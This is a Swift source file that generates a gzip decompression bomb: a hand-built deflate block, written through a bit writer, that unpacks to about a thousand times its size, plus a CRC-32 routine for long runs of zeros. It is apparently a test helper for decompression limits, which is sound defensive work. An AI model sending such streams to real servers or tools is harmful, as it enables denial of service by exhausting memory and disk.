/// A gzip stream of zeros, about a thousandth of the size they unpack to, made without packing.
///
/// One block of deflate with a code of its own: a run of 258 zeros costs two bits, both zero, so that
/// almost all of the stream is zero bytes as well.
enum GzipBomb {
  /// How many zeros one byte of the stream stands for: four runs.
  static let zerosOfOneByte = 4 * 258

  /// Unpacks to at least `count` zeros.
  static func stretches(unpackingTo count: Int) -> [Stretch] {
    let bytes = max(1, (count + zerosOfOneByte - 1) / zerosOfOneByte)
    let runs = (opening.padding + 8 * bytes + openingBit) / 2
    let unpacked = 1 + runs * 258
    let closing =
      [0b11 << UInt8(openingBit)] + littleEndian(crc32(ofZeros: unpacked))
      + littleEndian(UInt32(truncatingIfNeeded: unpacked))
    return [Stretch(header + opening.bytes)] + Stretch.run(of: 0, count: bytes)
      + [Stretch(closing)]
  }

  /// No name, no time, unknown system.
  private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]

  /// A run that began in the opening may end one bit into the closing, before the block's end `11`.
  private static let openingBit = opening.padding % 2

  private static let opening: (bytes: [UInt8], padding: Int) = {
    var bits = BitWriter()
    bits.put(1, 1)  // the last block
    bits.put(2, 2)  // with a code of its own
    bits.put(29, 5)  // 286 letters and lengths
    bits.put(0, 5)  // one distance
    bits.put(14, 4)  // 18 lengths of the code's code: those of 18, 2 and 1, in deflate's order
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] { bits.put(length, 3) }
    bits.put(0b11, 2)  // the letter 0: two bits
    bits.putZeros(138)
    bits.putZeros(117)
    bits.put(0b11, 2)  // the end of the block: two bits
    bits.putZeros(28)
    bits.put(0b01, 2)  // the length 258: one bit
    bits.put(0b01, 2)  // the distance 1: one bit
    bits.put(0b01, 2)  // the letter 0 itself
    let padding = bits.padToByte()
    return (bits.bytes, padding)
  }()

  private static func littleEndian(_ number: UInt32) -> [UInt8] {
    (0..<4).map { UInt8(truncatingIfNeeded: number >> (8 * $0)) }
  }
}

/// Packs numbers from their lowest bit on, as deflate does.
private struct BitWriter {
  private(set) var bytes: [UInt8] = []
  private var used = 0

  mutating func put(_ value: Int, _ width: Int) {
    for bit in 0..<width {
      if used % 8 == 0 { bytes.append(0) }
      bytes[used / 8] |= UInt8((value >> bit) & 1) << UInt8(used % 8)
      used += 1
    }
  }

  /// A run of 11 to 138 letters that do not occur: one bit, then the number.
  mutating func putZeros(_ count: Int) {
    put(0, 1)
    put(count - 11, 7)
  }

  mutating func padToByte() -> Int {
    let padding = (8 - used % 8) % 8
    put(0, padding)
    return padding
  }
}

/// The checksum of so many zeros without touching them: their effect is a power in the field.
func crc32(ofZeros count: Int) -> UInt32 {
  var power: UInt32 = 0x8000_0000 >> 8  // x^8, the effect of one zero byte
  var effect: UInt32 = 0x8000_0000  // x^0
  var rest = count
  while rest > 0 {
    if rest & 1 == 1 { effect = product(effect, power) }
    power = product(power, power)
    rest >>= 1
  }
  return ~product(effect, 0xFFFF_FFFF)
}

/// The product of two polynomials modulo that of CRC-32, with the lowest power in the highest bit.
private func product(_ one: UInt32, _ other: UInt32) -> UInt32 {
  var sum: UInt32 = 0
  var other = other
  for bit in stride(from: UInt32(31), through: 0, by: -1) {
    if one >> bit & 1 == 1 { sum ^= other }
    other = other & 1 == 1 ? other >> 1 ^ 0xEDB8_8320 : other >> 1
  }
  return sum
}
